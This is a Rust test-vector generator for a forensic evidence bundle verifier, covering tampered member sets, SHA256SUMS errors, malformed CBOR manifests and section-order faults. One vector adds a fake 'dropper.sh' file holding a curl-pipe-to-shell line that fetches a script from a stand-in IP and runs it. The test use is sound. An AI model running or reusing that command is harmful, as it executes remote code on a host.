//! The member set, the manifest, the order of sections and members, member content and
//! `SHA256SUMS` (SPEC §2.3, §4–§7, §11 steps 3–8). Each is the base bundle re-zipped with fresh
//! CRCs; where the manifest changes, `SHA256SUMS` and the seal are remade for it so that only the
//! intended class fires.

use super::{Fixtures, vector};
use crate::cose::encode;
use crate::fixture::t;
use crate::rezip::{Archive, Item};
use crate::{Error, Vector};
use ciborium::Value;
use forensic_bundle::digest::Digest;
use forensic_bundle::verify::FailureClass::*;
use forensic_bundle::{CUSTODY, MANIFEST, SHA256SUMS};

const PS: &str = "1-processes/ps.txt";
const TCP: &str = "2-network/tcp.txt";
const POD: &str = "6-podspec/pod-spec.yaml";

/// `bytes` with the first occurrence of `from` replaced by `to`.
fn replace(bytes: &[u8], from: &[u8], to: &[u8]) -> Result<Vec<u8>, Error> {
    let at = bytes
        .windows(from.len())
        .position(|w| w == from)
        .ok_or_else(|| Error::new(format!("{:?} not found", String::from_utf8_lossy(from))))?;
    let mut out = bytes.get(..at).unwrap_or_default().to_vec();
    out.extend_from_slice(to);
    out.extend_from_slice(bytes.get(at + from.len()..).unwrap_or_default());
    Ok(out)
}

/// The entry `key` of a CBOR map value.
fn field<'a>(v: &'a mut Value, key: &str) -> Result<&'a mut Value, Error> {
    v.as_map_mut()
        .and_then(|m| m.iter_mut().find(|(k, _)| k.as_text() == Some(key)))
        .map(|(_, v)| v)
        .ok_or_else(|| Error::new(format!("no map key {key:?}")))
}

/// Vectors that change the archive's member list, not the manifest.
fn member_set(fx: &Fixtures) -> Result<Vec<Vector>, Error> {
    let mut removed = fx.base_archive()?;
    removed.remove(TCP)?;
    let mut added = fx.base_archive()?;
    let at = added.position(POD)?;
    let dropper = Item {
        name: "5-filesystem/tmp/dropper.sh".into(),
        content: b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n".to_vec(),
        deflate: true,
    };
    added.items.insert(at, dropper);
    let mut renamed = fx.base_archive()?;
    renamed.item_mut(POD)?.name = "6-podspec/pod-spec.yml".into();
    let mut no_custody = fx.base_archive()?;
    no_custody.remove(CUSTODY)?;
    let mut changed = fx.base_archive()?;
    changed.set(TCP, replace(changed.content(TCP)?, b"31337", b"31338")?)?;
    let mut swapped = fx.base_archive()?;
    swapped.swap(PS, TCP)?;
    let mut misplaced = fx.base_archive()?;
    misplaced.swap(MANIFEST, SHA256SUMS)?;
    Ok(vec![
        vector(
            "member-removed",
            "An evidence member the manifest lists is absent from the archive (SPEC §11 step 5).",
            &[MissingMember],
            removed.write()?,
        ),
        vector(
            "member-missing-custody",
            "The custody.cbor metadata member is absent (SPEC §11 step 3).",
            &[MissingMember],
            no_custody.write()?,
        ),
        vector(
            "member-added",
            "The archive holds an evidence member the manifest does not list (SPEC §11 step 5).",
            &[UnexpectedMember],
            added.write()?,
        ),
        vector(
            "member-renamed",
            "An evidence member renamed in the archive: the listed name is missing and the new one unexpected (SPEC §11 step 5).",
            &[MissingMember, UnexpectedMember],
            renamed.write()?,
        ),
        vector(
            "digest-content-changed",
            "One byte of an evidence member's content changed, with a correct CRC-32: its SHA-256 differs from the manifest's (SPEC §11 step 7).",
            &[DigestMismatch],
            changed.write()?,
        ),
        vector(
            "order-archive-swapped",
            "Two evidence members are in the archive in the opposite order to the manifest (SPEC §2.3, §11 step 6).",
            &[SectionOrder],
            swapped.write()?,
        ),
        vector(
            "order-metadata-misplaced",
            "SHA256SUMS comes before manifest.cbor in the archive (SPEC §2.3).",
            &[SectionOrder],
            misplaced.write()?,
        ),
    ])
}

/// Vectors that change `SHA256SUMS` or the manifest without resealing.
fn sums(fx: &Fixtures) -> Result<Vec<Vector>, Error> {
    let a = fx.base_archive()?;
    let m = a.manifest()?;
    let tcp = m
        .members
        .iter()
        .find(|x| x.name == TCP)
        .ok_or_else(|| Error::new("no tcp member"))?;
    let mut wrong = fx.base_archive()?;
    let other = Digest::of(b"something else").hex();
    wrong.set(
        SHA256SUMS,
        replace(a.content(SHA256SUMS)?, tcp.sha256.hex().as_bytes(), other.as_bytes())?,
    )?;
    let mut no_lf = fx.base_archive()?;
    let text = a.content(SHA256SUMS)?;
    no_lf.set(
        SHA256SUMS,
        text.get(..text.len().saturating_sub(1)).unwrap_or_default().to_vec(),
    )?;

    let mut edited = m.clone();
    edited.case.examiner = Some("Someone Else".into());
    let edited_bytes = edited.to_cbor()?;
    let mut unsealed = fx.base_archive()?;
    unsealed.set(MANIFEST, edited_bytes.clone())?;
    let mut sums_updated = unsealed.clone();
    sums_updated.set(
        SHA256SUMS,
        forensic_bundle::sums::render(&edited, &Digest::of(&edited_bytes)).into_bytes(),
    )?;
    Ok(vec![
        vector(
            "sums-wrong-digest",
            "One SHA256SUMS line carries a digest other than the manifest's (SPEC §7).",
            &[SumsMismatch],
            wrong.write()?,
        ),
        vector(
            "sums-no-final-newline",
            "SHA256SUMS without the line feed after its last line (SPEC §7: every line ends with LF).",
            &[SumsMismatch],
            no_lf.write()?,
        ),
        vector(
            "manifest-edited-not-resealed",
            "The manifest's examiner changed afterwards: SHA256SUMS and the seal both carry the old manifest digest (SPEC §7, §9.3 rule 5).",
            &[SealMismatch, SumsMismatch],
            unsealed.write()?,
        ),
        vector(
            "manifest-edited-sums-updated",
            "The manifest's examiner changed and SHA256SUMS updated to match, but the seal still signs the old manifest digest (SPEC §9.3 rule 5).",
            &[SealMismatch],
            sums_updated.write()?,
        ),
    ])
}

/// Vectors whose manifest breaks SPEC §6, resealed so that only that shows.
fn manifest(fx: &Fixtures) -> Result<Vec<Vector>, Error> {
    let m = fx.base_archive()?.manifest()?;
    let value = Value::serialized(&m)?;
    // Each variant: re-encoded manifest bytes, resealed with SHA256SUMS for the unchanged listing.
    let resealed = |bytes: Vec<u8>| fx.resealed(bytes);

    let mut dup_key = value.clone();
    let id = field(&mut dup_key, "bundle_id")?.clone();
    dup_key
        .as_map_mut()
        .ok_or_else(|| Error::new("not a map"))?
        .push((Value::Text("bundle_id".into()), id));

    let encoded = m.to_cbor()?;
    let tail = [&[0x64][..], b"gaps", &[0x80]].concat();
    let stem = encoded
        .strip_suffix(&tail[..])
        .ok_or_else(|| Error::new("the manifest does not end with an empty gaps array"))?;
    let indefinite = [stem, &[0x64], b"gaps", &[0x9f, 0xff]].concat();

    let mut wrong_type = value.clone();
    let members = field(&mut wrong_type, "members")?
        .as_array_mut()
        .ok_or_else(|| Error::new("members is not an array"))?;
    let second = members.get_mut(1).ok_or_else(|| Error::new("fewer than two members"))?;
    let size = field(second, "size")?;
    *size = Value::Text(format!("{}", size.as_integer().map(i128::from).unwrap_or_default()));

    let mut bad_time = value.clone();
    *field(&mut bad_time, "created")? = Value::Text("2026-01-02T03:04:05Z".into());

    let mut trailing = encoded.clone();
    trailing.push(0xf6);

    let mut dup_member = m.clone();
    let first = dup_member
        .members
        .first()
        .cloned()
        .ok_or_else(|| Error::new("no members"))?;
    dup_member.members.insert(1, first);
    let mut dup_member_archive = fx.base_archive()?;
    dup_member_archive.reseal_manifest(&dup_member)?;

    let mut v2 = m.clone();
    v2.version = 2;
    let mut v2_archive = fx.base_archive()?;
    v2_archive.reseal_manifest(&v2)?;

    Ok(vec![
        vector(
            "manifest-duplicate-key",
            "The manifest map has the key bundle_id twice, with the same value (SPEC §6: no duplicate keys).",
            &[MalformedManifest],
            resealed(encode(&dup_key)?)?,
        ),
        vector(
            "manifest-indefinite-length",
            "The manifest's empty gaps array is encoded with indefinite length (SPEC §6: definite lengths only).",
            &[MalformedManifest],
            resealed(indefinite)?,
        ),
        vector(
            "manifest-wrong-type",
            "A member's size is a text string of digits instead of an unsigned integer (SPEC §6: keys have exactly the types given).",
            &[MalformedManifest],
            resealed(encode(&wrong_type)?)?,
        ),
        vector(
            "manifest-bad-time",
            "The manifest's created time has no fraction digits (SPEC §5: always nine).",
            &[MalformedManifest],
            resealed(encode(&bad_time)?)?,
        ),
        vector(
            "manifest-trailing-bytes",
            "manifest.cbor holds a second CBOR item (null) after the manifest map (SPEC §6: one data item).",
            &[MalformedManifest],
            resealed(trailing)?,
        ),
        vector(
            "manifest-duplicate-member",
            "The manifest lists the same member twice (SPEC §6: member names are unique).",
            &[MalformedManifest],
            dup_member_archive.write()?,
        ),
        vector(
            "manifest-version-2",
            "The manifest says format version 2 (SPEC §6).",
            &[UnsupportedVersion],
            v2_archive.write()?,
        ),
    ])
}

/// The entries of a CBOR map value.
fn map_mut(v: &mut Value) -> Result<&mut Vec<(Value, Value)>, Error> {
    v.as_map_mut().ok_or_else(|| Error::new("not a map"))
}

/// Entry `i` of the manifest's `members` array.
fn member_mut(v: &mut Value, i: usize) -> Result<&mut Value, Error> {
    field(v, "members")?
        .as_array_mut()
        .and_then(|a| a.get_mut(i))
        .ok_or_else(|| Error::new(format!("no member {i}")))
}

/// `v` with the key `key` added at the end of its root map.
fn with_key(v: &Value, key: Value, value: Value) -> Result<Value, Error> {
    let mut v = v.clone();
    map_mut(&mut v)?.push((key, value));
    Ok(v)
}

/// `depth` arrays nested in each other, the innermost empty.
fn nested(depth: usize) -> Value {
    (1..depth).fold(Value::Array(Vec::new()), |inner, _| Value::Array(vec![inner]))
}

/// Manifests that break the CBOR profile and key rules of SPEC §6 (and two that only stretch
/// them), each resealed (SHA256SUMS and a fresh seal over the new manifest digest) so that only
/// the manifest rule shows.
fn profile(fx: &Fixtures) -> Result<Vec<Vector>, Error> {
    let m = fx.base_archive()?.manifest()?;
    let value = Value::serialized(&m)?;
    let encoded = m.to_cbor()?;
    let resealed = |bytes: Vec<u8>| fx.resealed(bytes);
    let text = |s: &str| Value::Text(s.into());

    // The first section's number 1 written as 0x18 0x01 instead of 0x01.
    let number = [&[0x66][..], b"number"].concat();
    let long_head = replace(
        &encoded,
        &[&number[..], &[0x01]].concat(),
        &[&number[..], &[0x18, 0x01]].concat(),
    )?;

    // An unknown key whose value is undefined (simple value 23, 0xf7): encoded as null, then
    // that one byte changed.
    let undefined_key = [&[0x6b][..], b"x-undefined"].concat();
    let with_null = encode(&with_key(&value, text("x-undefined"), Value::Null)?)?;
    let undefined = replace(
        &with_null,
        &[&undefined_key[..], &[0xf6]].concat(),
        &[&undefined_key[..], &[0xf7]].concat(),
    )?;

    // The tcp member's size 226 as a bignum: tag 2 over h'e2'.
    let mut bignum = value.clone();
    let size = field(member_mut(&mut bignum, 1)?, "size")?;
    let n = size
        .as_integer()
        .and_then(|i| u8::try_from(i).ok())
        .ok_or_else(|| Error::new("the tcp member's size does not fit one byte"))?;
    *size = Value::Tag(2, Box::new(Value::Bytes(vec![n])));

    let mut bytes_key = value.clone();
    map_mut(field(&mut bytes_key, "target")?)?.push((Value::Bytes(b"node".to_vec()), text("node-1.test.invalid")));

    let mut null_notes = value.clone();
    *field(field(&mut null_notes, "case")?, "notes")? = Value::Null;

    let mut two_sources = value.clone();
    map_mut(field(member_mut(&mut two_sources, 1)?, "source")?)?
        .push((text("derived"), text("copied from /proc/4242/net/tcp")));

    Ok(vec![
        vector(
            "manifest-non-shortest-head",
            "The first section's number 1 is encoded in two bytes (0x18 0x01) instead of one (SPEC §6: every head in its shortest form).",
            &[MalformedManifest],
            resealed(long_head)?,
        ),
        vector(
            "manifest-float",
            "An unknown key x-ratio holds the floating-point number 1.5; unknown keys are ignored but their values must follow the CBOR profile (SPEC §6: no floating-point numbers).",
            &[MalformedManifest],
            resealed(encode(&with_key(&value, text("x-ratio"), Value::Float(1.5))?)?)?,
        ),
        vector(
            "manifest-tag",
            "A member's size is the right number written as a bignum, tag 2 over a byte string (SPEC §6: no tags).",
            &[MalformedManifest],
            resealed(encode(&bignum)?)?,
        ),
        vector(
            "manifest-simple-undefined",
            "An unknown key x-undefined holds the simple value undefined (0xf7) (SPEC §6: no simple values other than false, true and null).",
            &[MalformedManifest],
            resealed(undefined)?,
        ),
        vector(
            "manifest-depth-17",
            "An unknown key holds 16 nested arrays: with the manifest map, 17 levels of nesting (SPEC §6, §10: at most 16).",
            &[MalformedManifest],
            resealed(encode(&with_key(&value, text("x-nested"), nested(16))?)?)?,
        ),
        vector(
            "valid-manifest-depth-16",
            "An unknown key holds 15 nested arrays: with the manifest map, exactly 16 levels of nesting, the most SPEC §6 and §10 allow.",
            &[],
            resealed(encode(&with_key(&value, text("x-nested"), nested(15))?)?)?,
        ),
        vector(
            "manifest-integer-key",
            "The manifest map has an extra key that is the integer 99, with a text value (SPEC §6: every map key in the manifest is a text string).",
            &[MalformedManifest],
            resealed(encode(&with_key(&value, Value::Integer(99.into()), text("x"))?)?)?,
        ),
        vector(
            "manifest-integer-key-nested",
            "An unknown key x-map holds a map whose one key is the integer 1 (SPEC §6: every map key in the manifest is a text string, under unknown keys too).",
            &[MalformedManifest],
            resealed(encode(&with_key(
                &value,
                text("x-map"),
                Value::Map(vec![(Value::Integer(1.into()), text("x"))]),
            )?)?)?,
        ),
        vector(
            "manifest-bytes-key",
            "The target map has an extra key that is the byte string 'node' (not the text string), with a text value (SPEC §6: every map key in the manifest is a text string).",
            &[MalformedManifest],
            resealed(encode(&bytes_key)?)?,
        ),
        vector(
            "manifest-null-optional",
            "The optional case.notes is present with the value null (SPEC §6: null is not a way to say \"absent\").",
            &[MalformedManifest],
            resealed(encode(&null_notes)?)?,
        ),
        vector(
            "manifest-source-path-and-derived",
            "A member's source has both a path and a derived key (SPEC §6: exactly one of path, argv and derived).",
            &[MalformedManifest],
            resealed(encode(&two_sources)?)?,
        ),
        vector(
            "valid-manifest-unknown-key",
            "The manifest map has an extra text key x-comment with a text value, sealed like the rest: readers ignore unknown keys (SPEC §6).",
            &[],
            resealed(encode(&with_key(
                &value,
                text("x-comment"),
                text("added by a later writer"),
            )?)?)?,
        ),
    ])
}

/// The base bundle with its member number `index` (in manifest and archive order) renamed `to` in
/// the archive and the manifest, resealed.
fn renamed(fx: &Fixtures, index: usize, to: &str) -> Result<Vec<u8>, Error> {
    let mut a = fx.base_archive()?;
    let mut m = a.manifest()?;
    let member = m
        .members
        .get_mut(index)
        .ok_or_else(|| Error::new(format!("no member {index}")))?;
    a.item_mut(&member.name)?.name = to.into();
    member.name = to.into();
    a.reseal_manifest(&m)?;
    a.write()
}

/// Vectors whose manifest breaks the section rules of SPEC §4 (§11 step 6), resealed.
fn order(fx: &Fixtures) -> Result<Vec<Vector>, Error> {
    let m = fx.base_archive()?.manifest()?;

    let mut decreasing = m.clone();
    decreasing.members.swap(0, 1);
    let mut decreasing_a = fx.base_archive()?;
    decreasing_a.swap(PS, TCP)?;
    decreasing_a.reseal_manifest(&decreasing)?;

    let mut unlisted = m.clone();
    unlisted.sections.remove(1);
    let mut unlisted_a = fx.base_archive()?;
    unlisted_a.reseal_manifest(&unlisted)?;

    let mut overlap = m.clone();
    overlap
        .sections
        .get_mut(1)
        .ok_or_else(|| Error::new("no second section"))?
        .started = t(12)?;
    let mut overlap_a = fx.base_archive()?;
    overlap_a.reseal_manifest(&overlap)?;

    let as_vec = |a: Archive| a.write();
    Ok(vec![
        vector(
            "order-members-decreasing",
            "The manifest lists a network member before a processes member (and the archive follows it): sections out of order (SPEC §4).",
            &[SectionOrder],
            as_vec(decreasing_a)?,
        ),
        vector(
            "order-wrong-prefix",
            "A member of the network section is named 1-processes/tcp.txt (SPEC §3, §4: names begin with their section's prefix).",
            &[SectionOrder],
            renamed(fx, 1, "1-processes/tcp.txt")?,
        ),
        vector(
            "order-section-not-listed",
            "The network section has a member but is missing from the manifest's sections list (SPEC §4).",
            &[SectionOrder],
            as_vec(unlisted_a)?,
        ),
        vector(
            "order-sections-overlap",
            "The network section started before the processes section finished (SPEC §4).",
            &[SectionOrder],
            as_vec(overlap_a)?,
        ),
    ])
}

/// What SPEC 1.0.1 decided about manifest keys (`exit` beside `path`, the integer range under
/// listed and unknown keys) and member names (C1 controls, U+2028, U+FEFF; a name outside every
/// section prefix, listed or not).
fn decided(fx: &Fixtures) -> Result<Vec<Vector>, Error> {
    let m = fx.base_archive()?.manifest()?;
    let value = Value::serialized(&m)?;
    let resealed = |bytes: Vec<u8>| fx.resealed(bytes);
    let int = |n: i128| -> Result<Value, Error> {
        Ok(Value::Integer(
            n.try_into().map_err(|_| Error::new("not a CBOR integer"))?,
        ))
    };
    // The tcp member's source is {"path": ...}; `exit` is listed only beside `argv`.
    let path_exit = |exit: Value| -> Result<Vec<u8>, Error> {
        let mut v = value.clone();
        map_mut(field(member_mut(&mut v, 1)?, "source")?)?.push((Value::Text("exit".into()), exit));
        resealed(encode(&v)?)
    };
    // The ps member's source is {"argv": [...], "exit": 0}: exit one below the signed 64-bit range.
    let mut low_exit = value.clone();
    *field(field(member_mut(&mut low_exit, 0)?, "source")?, "exit")? = int(-(1 << 63) - 1)?;
    let extremes = Value::Array(vec![int(-(1 << 64))?, int((1 << 64) - 1)?]);

    let notes = Item {
        name: "notes.txt".into(),
        content: b"examiner's notes, added after sealing\n".to_vec(),
        deflate: false,
    };
    let mut unlisted = fx.base_archive()?;
    unlisted.items.push(notes.clone());
    let mut listed = m.clone();
    let mut entry = listed
        .members
        .get(2)
        .cloned()
        .ok_or_else(|| Error::new("no third member"))?;
    entry.name = notes.name.clone();
    entry.size = notes.content.len() as u64;
    entry.sha256 = Digest::of(&notes.content);
    listed.members.push(entry);
    let mut listed_a = fx.base_archive()?;
    let at = listed_a.position(MANIFEST)?;
    listed_a.items.insert(at, notes);
    listed_a.reseal_manifest(&listed)?;

    Ok(vec![
        vector(
            "manifest-source-path-exit-text",
            "A member's source is {\"path\": ..., \"exit\": \"text\"}: exit is listed in the source CDDL, so it has its listed type (int) wherever it appears (SPEC §6).",
            &[MalformedManifest],
            path_exit(Value::Text("text".into()))?,
        ),
        vector(
            "valid-manifest-source-path-exit",
            "A member's source is {\"path\": ..., \"exit\": 0}: exit beside path has its listed type and is ignored (SPEC §6).",
            &[],
            path_exit(int(0)?)?,
        ),
        vector(
            "manifest-int-out-of-range",
            "A command source's exit is -2^63 - 1, one below the signed 64-bit range that every int of SPEC §6 is within.",
            &[MalformedManifest],
            resealed(encode(&low_exit)?)?,
        ),
        vector(
            "valid-manifest-unknown-int-range",
            "An unknown key x-extremes holds -2^64 and 2^64 - 1: the int and uint ranges bound the values of listed keys only (SPEC §6).",
            &[],
            resealed(encode(&with_key(&value, Value::Text("x-extremes".into()), extremes)?)?)?,
        ),
        vector(
            "valid-member-name-unicode",
            "An evidence member's name holds U+0085 (a C1 control), U+2028 and U+FEFF, in the archive, the manifest and SHA256SUMS: only U+0000–U+001F and U+007F are forbidden (SPEC §3).",
            &[],
            renamed(fx, 2, "6-podspec/pod\u{85}spec\u{2028}web-1\u{feff}.yaml")?,
        ),
        vector(
            "member-outside-sections",
            "The archive holds notes.txt, under no section prefix and not in the manifest, after custody.cbor: unexpected, and not judged for order (SPEC §3, §11 steps 5–6).",
            &[UnexpectedMember],
            unlisted.write()?,
        ),
        vector(
            "order-member-outside-sections",
            "The manifest lists notes.txt in the podspec section and the archive holds it before manifest.cbor: a valid name that does not start with its section's prefix (SPEC §3, §11 step 6).",
            &[SectionOrder],
            listed_a.write()?,
        ),
    ])
}

pub(super) fn vectors(fx: &Fixtures) -> Result<Vec<Vector>, Error> {
    let mut out = member_set(fx)?;
    out.extend(sums(fx)?);
    out.extend(manifest(fx)?);
    out.extend(profile(fx)?);
    out.extend(order(fx)?);
    out.extend(decided(fx)?);
    Ok(out)
}
